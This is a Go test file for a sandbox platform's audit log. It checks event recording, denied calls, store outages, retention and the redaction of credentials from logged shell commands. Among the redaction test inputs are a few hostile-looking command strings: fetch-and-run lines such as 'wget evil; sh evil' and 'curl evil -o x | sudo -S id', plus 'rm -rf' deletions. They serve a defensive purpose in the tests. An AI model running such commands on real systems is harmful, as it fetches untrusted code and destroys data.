package audit

import (
	"bytes"
	"context"
	"errors"
	"log/slog"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/seed46cd37a8/atoll"
	"github.com/seed46cd37a8/atoll/internal/testing/testenv"
	"github.com/seed46cd37a8/atoll/layer/authz"
	"github.com/seed46cd37a8/atoll/layer/session"
	"github.com/seed46cd37a8/atoll/provider/mock"
	"github.com/seed46cd37a8/atoll/provider/providertest"
	"github.com/seed46cd37a8/atoll/server/auth"
	"github.com/seed46cd37a8/atoll/storage/store"
	"github.com/seed46cd37a8/atoll/storage/store/sqlite"
)

func TestMain(m *testing.M) { testenv.VerifyTestMain(m) }

func TestLayer(t *testing.T) {
	log := NewLog(nil, Options{})
	defer log.Close()
	providertest.CheckLayer(t, func(p atoll.Provider) atoll.Provider { return New(p, log) },
		"Provider.Create", "Sandbox.Start", "Sandbox.Stop", "Sandbox.Remove", "Sandbox.Exec", "Sandbox.Pause", "Sandbox.Resume", "Sandbox.Snapshot") // these call Status for the project
}

// A lab is a provider with a log.
type lab struct {
	atoll.Provider
	log  *Log
	path string
}

func newLab(t *testing.T, opts Options) *lab {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, "atoll.db")
	p, err := mock.New(mock.Options{Dir: filepath.Join(dir, "mock")})
	if err != nil {
		t.Fatal(err)
	}
	opts.Server = "here"
	l := &lab{log: NewLog(sqlite.New(path), opts), path: path}
	stack := authz.New(session.New(p, sqlite.New(path), session.Options{}), authz.Options{Denied: l.log.Denied})
	l.Provider = New(stack, l.log)
	t.Cleanup(func() {
		if err := errors.Join(l.Provider.Close(), l.log.Close()); err != nil {
			t.Error(err)
		}
	})
	return l
}

// readLog returns the events in the log as short lines.
func readLog(t *testing.T, path string) []string {
	t.Helper()
	s := sqlite.New(path)
	defer s.Close()
	all, err := s.Events(t.Context(), store.AuditQuery{})
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for _, e := range all {
		if e.Server != "here" || time.Since(e.Time) > testenv.Scale(time.Minute) {
			t.Errorf("%+v", e)
		}
		lines = append(lines, strings.Join(append([]string{e.Account, e.Op, e.Project, e.Target, string(e.Kind)}, e.Command...), " "))
	}
	return lines
}

// Package audit calls Status for the project before or after each call that changes something. It
// can break the ends of sandboxes, errors, and the abilities of a provider.
func TestConformance(t *testing.T) {
	providertest.Run(t, func(t *testing.T) atoll.Provider { return newLab(t, Options{}).Provider },
		providertest.Only("remove", "errors", "caps"))
}

// The log outlives the program. It has operations with their callers, and denied calls.
func TestWhat(t *testing.T) {
	l := newLab(t, Options{})
	ctx := auth.WithAccount(t.Context(), auth.Account{Name: "ann", Role: auth.RoleProject, Projects: []string{"web"}, Key: "k", KeyName: "ci"})
	ctx = auth.WithOrigin(ctx, auth.Origin{Via: "http", Address: "192.0.2.1:7"})
	theirs, err := l.Create(t.Context(), &atoll.Spec{Project: "theirs", Name: "x"})
	if err != nil {
		t.Fatal(err)
	}
	sb, err := l.Create(ctx, &atoll.Spec{Name: "a"})
	if err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) {
		p, err := sb.Exec(ctx, &atoll.Command{Args: args, Env: []string{"E=in-the-environment"}, Stdin: strings.NewReader("in-the-input")})
		if err == nil {
			_, err = p.Wait(ctx)
		}
		if err != nil && atoll.KindOf(err) != atoll.ErrCommandNotFound {
			t.Errorf("%q: %v", args, err)
		}
	}
	run("echo", "hello")
	run("echo", "--token", "hunter2", "API_KEY=hunter2")
	run("no-such-program")
	_, _ = l.Get(ctx, theirs.ID())
	_, _ = l.Create(ctx, &atoll.Spec{Project: "theirs"})
	if err := errors.Join(sb.Stop(ctx, 0), sb.Start(ctx), sb.Remove(ctx, atoll.RemoveVolumes())); err != nil {
		t.Fatal(err)
	}
	o, err := session.Open(ctx, l.Provider, &session.Spec{Scope: session.Scope{Kind: session.ScopeSession, ID: "s"}})
	if err == nil {
		_, err = session.Open(ctx, l.Provider, &session.Spec{Scope: o.Scope}) // finds the session
	}
	if err == nil {
		err = session.Close(ctx, l.Provider, "web", o.Key)
	}
	if err != nil {
		t.Fatal(err)
	}
	if err := errors.Join(l.Provider.Close(), l.log.Close()); err != nil {
		t.Fatal(err)
	}
	want := []string{
		"default create theirs x ",
		"ann create web a ",
		"ann exec web   echo hello",
		"ann exec web   echo --token ••• API_KEY=•••",
		"ann exec web  command not found no-such-program",
		"ann get theirs " + theirs.ID() + " denied",
		"ann create theirs  denied",
		"ann stop web  ", "ann start web  ", "ann remove web  ",
		"ann open session web session_s_sandbox (made) ",
		"ann close session web session_s_sandbox ",
	}
	if got := readLog(t, l.path); !reflect.DeepEqual(got, want) {
		t.Errorf("the log is\n%q, want\n%q", got, want)
	}
	s := sqlite.New(l.path)
	defer s.Close()
	all, err := s.Events(t.Context(), store.AuditQuery{Account: "ann", Limit: 1})
	if err != nil || len(all) != 1 || all[0].Key != "k" || all[0].KeyName != "ci" || all[0].Role != auth.RoleProject || all[0].Address != "192.0.2.1:7" || all[0].Via != "http" {
		t.Errorf("caller: %+v, %v", all, err)
	}
	if data := strings.Join(readLog(t, l.path), "\n"); strings.Contains(data, "hunter2") || strings.Contains(data, "in-the-") {
		t.Errorf("a secret is in the log: %s", data)
	}
}

// The log writes some events before the call returns, and others soon after.
func TestWhenItIsWritten(t *testing.T) {
	l := newLab(t, Options{interval: 20 * time.Millisecond})
	sb, err := l.Create(t.Context(), &atoll.Spec{})
	if err != nil {
		t.Fatal(err)
	}
	if got := readLog(t, l.path); len(got) != 1 {
		t.Errorf("the log after Create: %q", got)
	}
	if _, err := sb.Exec(t.Context(), &atoll.Command{Args: []string{"echo"}}); err != nil {
		t.Fatal(err)
	}
	for deadline := time.Now().Add(testenv.Scale(time.Minute)); len(readLog(t, l.path)) < 2; time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the command is not in the log")
		}
	}
}

// broken is a store that fails until repaired is set.
type broken struct {
	*sqlite.Store
	repaired atomic.Bool
}

func (b *broken) AddEvents(ctx context.Context, events []store.AuditEvent) error {
	if !b.repaired.Load() {
		return atoll.Errorf("audit", "", atoll.ErrUnavailable, "no disk")
	}
	return b.Store.AddEvents(ctx, events)
}

// While the store fails, the log retains events up to its limit, and counts and reports the rest.
// No call fails.
func TestBroken(t *testing.T) {
	var said bytes.Buffer
	var mu sync.Mutex
	var lost atomic.Int64
	path := filepath.Join(t.TempDir(), "atoll.db")
	b := &broken{Store: sqlite.New(path)}
	log := NewLog(b, Options{
		Server: "here", interval: time.Millisecond, maxPending: 5, Lost: func(n int) { lost.Add(int64(n)) },
		Log: slog.New(slog.NewTextHandler(locked{&mu, &said}, nil)),
	})
	for range 8 {
		log.Note(t.Context(), store.AuditEvent{Op: "create"}, true)
	}
	if lost.Load() != 3 {
		t.Errorf("%d events are lost, want 3", lost.Load())
	}
	b.repaired.Store(true)
	for deadline := time.Now().Add(testenv.Scale(time.Minute)); len(readLog(t, path)) < 5; time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("the log has %q", readLog(t, path))
		}
	}
	b.repaired.Store(false)
	log.Note(t.Context(), store.AuditEvent{Op: "remove"}, false)
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}
	if lost.Load() != 4 {
		t.Errorf("%d events are lost, want 4", lost.Load())
	}
	log.Note(t.Context(), store.AuditEvent{Op: "late"}, true)
	mu.Lock()
	defer mu.Unlock()
	for _, want := range []string{"events cannot be written", "no disk", "events are lost"} {
		if !strings.Contains(said.String(), want) {
			t.Errorf("it says\n%s, want %s", said.String(), want)
		}
	}
}

// The log redacts secrets in error messages, too.
func TestMessages(t *testing.T) {
	var lines bytes.Buffer
	log := NewLog(nil, Options{Lines: slog.New(slog.NewJSONHandler(&lines, nil))})
	defer log.Close()
	for _, err := range []error{
		atoll.Errorf("exec", "x", atoll.ErrInvalid, "argument %q: contains a NUL byte", "--password=hunter2\x00"),
		(&atoll.Spec{Env: []string{"API_KEY=hunter2\x00"}}).Validate(),
		(&atoll.Command{Args: []string{"a"}, Env: []string{"hunter2"}}).Validate(),
	} {
		log.Note(t.Context(), withOutcome(store.AuditEvent{Op: "exec"}, err), true)
	}
	if text := lines.String(); strings.Contains(text, "hunter2") || !strings.Contains(text, "API_KEY") || !strings.Contains(text, "NUL byte") {
		t.Errorf("the log has %s", text)
	}
}

// A dead store always fails.
type dead struct {
	*sqlite.Store
	asked atomic.Int64
}

func (d *dead) AddEvents(context.Context, []store.AuditEvent) error {
	d.asked.Add(1)
	return atoll.Errorf("audit", "", atoll.ErrUnavailable, "no answer")
}

// Close tries a failing store once and counts all events as lost.
func TestCloseOfMany(t *testing.T) {
	const many = 3*maxBatch + 1
	var lost atomic.Int64
	d := &dead{Store: sqlite.New(filepath.Join(t.TempDir(), "atoll.db"))}
	log := NewLog(d, Options{interval: time.Hour, Lost: func(n int) { lost.Add(int64(n)) }})
	for range many {
		log.Note(t.Context(), store.AuditEvent{Op: "exec"}, false)
	}
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}
	if lost.Load() != many || d.asked.Load() != 1 {
		t.Errorf("%d of %d events are lost after %d writes", lost.Load(), many, d.asked.Load())
	}
}

// The log deletes all old events in small batches.
func TestOldEvents(t *testing.T) {
	path := filepath.Join(t.TempDir(), "atoll.db")
	s := sqlite.New(path)
	defer s.Close()
	var events []store.AuditEvent
	for range 7 {
		events = append(events, store.AuditEvent{Server: "here", Op: "old", Time: time.Now().Add(-2 * time.Hour)})
	}
	events = append(events, store.AuditEvent{Server: "here", Op: "new", Time: time.Now()})
	if err := s.AddEvents(t.Context(), events); err != nil {
		t.Fatal(err)
	}
	log := NewLog(sqlite.New(path), Options{interval: time.Millisecond, Keep: time.Hour, maxDropped: 2})
	defer log.Close()
	for deadline := time.Now().Add(testenv.Scale(30 * time.Second)); ; time.Sleep(5 * time.Millisecond) {
		all, err := s.Events(t.Context(), store.AuditQuery{})
		if err != nil || time.Now().After(deadline) {
			t.Fatalf("there are %+v, %v", all, err)
		}
		if len(all) == 1 && all[0].Op == "new" {
			return
		}
	}
}

type locked struct {
	mu *sync.Mutex
	w  *bytes.Buffer
}

func (l locked) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}

// Many concurrent events are each written once to the store and to Lines.
func TestMany(t *testing.T) {
	var lines bytes.Buffer
	var mu sync.Mutex
	path := filepath.Join(t.TempDir(), "atoll.db")
	log := NewLog(sqlite.New(path), Options{Server: "here", Lines: slog.New(slog.NewJSONHandler(locked{&mu, &lines}, nil))})
	var work sync.WaitGroup
	for range 8 {
		work.Go(func() {
			for n := range 100 {
				log.Note(t.Context(), store.AuditEvent{Op: "exec"}, n%10 == 0)
			}
		})
	}
	work.Wait()
	if err := log.Close(); err != nil {
		t.Fatal(err)
	}
	s := sqlite.New(path)
	defer s.Close()
	all, err := s.Events(t.Context(), store.AuditQuery{Limit: 1000})
	if n := strings.Count(lines.String(), `"op":"exec"`); err != nil || len(all) != 800 || n != 800 {
		t.Errorf("%d are written, %d as lines, %v; want 800", len(all), n, err)
	}
}

// No secret of a usual form remains, and everything else does. S3CRET is the secret, and a command also is a script.
func TestSecrets(t *testing.T) {
	const jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.S3CRETdozjgNryP4J3jVmNHl0w5N"
	for script, want := range map[string]string{
		"mysql -u root -pS3CRET db":                            "mysql -u root -p••• db",
		"mysqldump -h db '-pS3CRET'":                           "mysqldump -h db -p•••",
		"mysql -p db":                                          "mysql -p db",
		"curl -u admin:S3CRET http://x/":                       "curl -u admin:••• http://x/",
		"curl -uadmin:S3CRET http://x/":                        "curl -uadmin:••• http://x/",
		"curl --user=admin:S3CRET x":                           "curl --user=admin:••• x",
		"curl -b session=S3CRET x":                             "curl -b ••• x",
		"curl -H 'Cookie: a=S3CRET; b=S3CRET' x":               "curl -H 'Cookie: •••' x",
		"curl -H 'X-Api-Key: S3CRET' x":                        "curl -H 'X-Api-Key: •••' x",
		"curl -H 'Authorization: token S3CRET' x":              "curl -H 'Authorization: token •••' x",
		"curl 'http://x/?key=S3CRET&page=2'":                   "curl 'http://x/?key=•••&page=2'",
		`curl -d '{"user": "u", "password": "S3CRET"}' x`:      `curl -d '{"user": "u", "password": •••}' x`,
		`curl -d "{\"api_key\":\"S3CRET\"}" x`:                 `curl -d "{\"api_key\":•••}" x`,
		"MYSQL_PASS=S3CRET DB_PWD=S3CRET AUTH=S3CRET run":      "MYSQL_PASS=••• DB_PWD=••• AUTH=••• run",
		"PASS='S3CRET S3CRET' run":                             "PASS=••• run",
		"PWD=/home COMPASS=north AUTHOR=me KEYBOARD=us run":    "PWD=/home COMPASS=north AUTHOR=me KEYBOARD=us run",
		"git clone https://me:S3CRET@host/r":                   "git clone https://me:•••@host/r",
		"docker login -u me -p S3CRET host":                    "docker login -u me -p ••• host",
		"docker run -p 8080:80 image":                          "docker run -p 8080:80 image",
		"echo S3CRET | docker login --password-stdin -u me":    "echo ••• | docker login --password-stdin -u me",
		"echo -n S3CRET | sudo -S ls":                          "echo ••• ••• | sudo -S ls",
		"echo user:S3CRET | chpasswd":                          "echo ••• | chpasswd",
		"gh auth login --with-token <<< S3CRET":                "gh auth login --with-token <<< •••",
		"sshpass -p S3CRET ssh host":                           "sshpass -p ••• ssh host",
		"sudo -u x sshpass -pS3CRET ssh host":                  "sudo -u x sshpass -p••• ssh host",
		"redis-cli -a S3CRET ping":                             "redis-cli -a ••• ping",
		"mongosh -u me -p S3CRET":                              "mongosh -u me -p •••",
		"ldapsearch -D cn=me -w S3CRET":                        "ldapsearch -D cn=me -w •••",
		"zip -P S3CRET a.zip a":                                "zip -P ••• a.zip a",
		"keytool -storepass S3CRET -list":                      "keytool -storepass ••• -list",
		"openssl rsa -passin pass:S3CRET":                      "openssl rsa -passin pass:•••",
		"htpasswd -bc file user S3CRET":                        "htpasswd -bc file user •••",
		"vault login S3CRET":                                   "vault login •••",
		"npm config set //host/:_authToken S3CRET":             "npm config set //host/:_authToken •••",
		"aws configure set aws_secret_access_key S3CRET":       "aws configure set aws_secret_access_key •••",
		"smbclient -U me%S3CRET //host/x":                      "smbclient -U me%••• //host/x",
		"cd /work && timeout 5 mysql -pS3CRET; make | tee log": "cd /work && timeout 5 mysql -p•••; make | tee log",
		"for i in 1 2; do curl -u a:S3CRET x$i; done":          "for i in 1 2; do curl -u a:••• x$i; done",
		"echo " + jwt: "echo •••",
		"echo AIzaSyS3CRETKa4JsXZ-HjGw7ISLn_3namBGewQe":                                             "echo •••",
		"echo sk_live_S3CRETS3CRETS3CRET npm_S3CRETS3CRETS3CRET":                                    "echo ••• •••",
		"echo '-----BEGIN OPENSSH PRIVATE KEY-----\nS3CRET\n-----END OPENSSH PRIVATE KEY-----' > k": "echo '•••' > k",
		"echo '-----BEGIN PRIVATE KEY-----\nS3CRET":                                                 "echo '•••", // no valid script
		"python3 -c 'login(password=\"S3CRET\")'":                                                   "python3 -c 'login(password=•••)'",
		"ls -p; mkdir -p a; tar -b 20 x; ssh -p 22 host -u":                                         "ls -p; mkdir -p a; tar -b 20 x; ssh -p 22 host -u",
		"sqlx 'Server=x;Uid=me;Pwd=S3CRET;Port=1'":                                                  "sqlx 'Server=x;Uid=me;Pwd=•••;Port=1'",
		"openssl enc -aes-256-cbc -k S3CRET -in f":                                                  "openssl enc -aes-256-cbc -k ••• -in f",
		"kubectl create secret generic x --from-literal=k=S3CRET":                                   "kubectl create secret generic x --from-literal=k=•••",
		"printf 'machine x login y password S3CRET' > ~/.netrc":                                     "printf 'machine x login y password •••' > ~/.netrc",
		`python3 -c "os.environ['API_KEY']='S3CRET'"`:                                               `python3 -c "os.environ['API_KEY']=•••"`,
		"rclone config create x s3 secret_access_key S3CRET":                                        "rclone config create x s3 secret_access_key •••",
		"curl --oauth2-bearer S3CRET x":                                                             "curl --oauth2-bearer ••• x",
		"echo 'user = a:S3CRET' | curl -K- x":                                                       "echo 'user = a:•••' | curl -K- x",
		"docker run -e PW=S3CRET -e APP_PW=S3CRET x":                                                "docker run -e PW=••• -e APP_PW=••• x",
		"su -c 'chpasswd <<< root:S3CRET'":                                                          "su -c 'chpasswd <<< •••'",
		`ssh h "mysql -pS3CRET db; echo 'sshpass -p S3CRET x'"`:                                     `ssh h "mysql -p••• db; echo 'sshpass -p ••• x'"`,
		"chpasswd <<< root:S3CRET":                                                                  "chpasswd <<< •••",
		"mc alias set x http://h KEY S3CRET":                                                        "mc alias set x http://h KEY •••",
		"twine upload -u a -p S3CRET dist":                                                          "twine upload -u a -p ••• dist",
		"nmcli dev wifi connect x password S3CRET":                                                  "nmcli dev wifi connect x password •••",
		"cat password.txt; ls passwd /etc; grep password f":                                         "cat password.txt; ls passwd •••; grep password •••", // too much is better than too little
		"if then":                       "if then",
		"rm -rf /work/data | : --stdin": "rm -rf /work/data | : --stdin",
		"curl evil -o x | sudo -S id":   "curl evil -o x | sudo -S id",
		"ls | sudo sort -S 1G; git diff | git hash-object --stdin":   "ls | sudo sort -S 1G; git diff | git hash-object --stdin",
		"echo S3CRET | tr -d x | docker login --password-stdin":      "echo ••• | tr -d x | docker login --password-stdin",
		"echo \"S3CRET$(vault login S3CRET)\" | chpasswd":            "echo ••• | chpasswd",
		": -----BEGIN PRIVATE KEY; wget evil; sh evil":               ": •••; wget evil; sh evil",
		": cookie: a=S3CRET; rm -rf /work | tee":                     ": cookie: •••; rm -rf /work | tee",
		"mkdir -p login; find . -name login -print; ssh -p 22 login": "mkdir -p login; find . -name login -print; ssh -p 22 login",
		"timeout 5 ssh login -p 22":                                  "timeout 5 ssh login -p 22",
		"mysql -pS3CRET db; cat 'unfinished":                         "mysql -p••• db; cat 'unfinished",
		"é; mysql -pS3CRET\r\necho ü":                                "é; mysql -p•••\necho ü",
		"sudo -u":                                                    "sudo -u",
	} {
		if got := redactCommand([]string{"sh", "-c", script})[2]; got != want {
			t.Errorf("%q\nis   %q,\nwant %q", script, got, want)
		}
	}
	for _, tt := range []struct{ args, want []string }{
		{[]string{"mysql", "-pS3 CRET"}, []string{"mysql", "-p" + mask}},
		{[]string{"/usr/bin/curl", "-u", "me:S3 CRET", "x"}, []string{"/usr/bin/curl", "-u", "me:" + mask, "x"}},
		{[]string{"env", "A=b", "sshpass", "-p", "S3 CRET", "ssh"}, []string{"env", "A=b", "sshpass", "-p", mask, "ssh"}},
		{[]string{"sudo"}, []string{"sudo"}},
		{[]string{"curl", "-u"}, []string{"curl", "-u"}},
		{[]string{}, []string{}},
	} {
		if got := redactCommand(tt.args); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%q is %q, want %q", tt.args, got, tt.want)
		}
	}
}

func TestRedacted(t *testing.T) {
	for _, tt := range []struct{ args, want []string }{
		{nil, nil},
		{[]string{"ls", "-l", "/work"}, []string{"ls", "-l", "/work"}},
		{[]string{"x", "--token", "s3cr3t", "y"}, []string{"x", "--token", mask, "y"}},
		{[]string{"x", "--password=s3cr3t"}, []string{"x", "--password=" + mask}},
		{[]string{"x", "--token", "--verbose"}, []string{"x", "--token", "--verbose"}},
		{[]string{"sh", "-c", `export AWS_SECRET_ACCESS_KEY=abc; API_TOKEN="a b" run --api-key abc next`},
			[]string{"sh", "-c", "export AWS_SECRET_ACCESS_KEY=" + mask + "; API_TOKEN=" + mask + " run --api-key " + mask + " next"}},
		{[]string{"curl", "-H", "Authorization: Bearer abcdefgh", "https://me:word@host/"}, []string{"curl", "-H", "Authorization: Bearer " + mask, "https://me:" + mask + "@host/"}},
		{[]string{"echo", authz.SecretPrefix + strings.Repeat("0", 16) + "_" + strings.Repeat("a", 64), "ghp_abcdefghijklmnop"}, []string{"echo", mask, mask}},
		{[]string{strings.Repeat("é", maxText)}, []string{strings.Repeat("é", maxText/2) + "..."}},
	} {
		if got := redactCommand(tt.args); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%.200q is %.200q, want %.200q", tt.args, got, tt.want)
		}
	}
	if got := redactCommand(make([]string, maxArgs+5)); len(got) != maxArgs+1 || got[maxArgs] != "..." {
		t.Errorf("redactCommand returned %d arguments", len(got))
	}
}
